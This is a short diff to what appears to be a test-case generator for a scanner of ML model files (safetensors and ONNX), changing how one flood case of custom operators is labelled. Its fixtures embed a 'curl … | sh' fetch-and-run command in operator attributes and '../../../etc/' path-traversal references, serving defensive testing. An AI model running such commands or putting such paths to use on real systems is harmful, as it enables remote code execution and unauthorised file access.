@@ -122,7 +122,9 @@ def _tensors() -> Iterator[Case]:
     broken = {f"t{n}": {"dtype": f"X{n}", "shape": [n], "data_offsets": [n, 0]} for n in range(15_000)}
     yield Case("flood-safetensors-broken.safetensors", safetensors(broken), "flood-safetensors-broken", payload=False)
     operators = tuple(node(f"Op{n}", attributes=attribute("cmd", f"curl {address(n)} | sh")) for n in range(12_000))
-    yield Case("flood-onnx-operators.onnx", onnx(graph(operators), domains=("custom",)), "flood-onnx-operators", payload=False)
+    yield Case(
+        "flood-onnx-operators.onnx", onnx(graph(operators), domains=("custom",)), "flood-onnx-operators", "harmless-arguments"
+    )
     outside = tuple(external(f"../../../etc/x{n}", f"w{n}") for n in range(12_000))
     yield Case("flood-onnx-external.onnx", onnx(graph((node("Relu"),), outside)), "flood-onnx-external", payload=False)
 
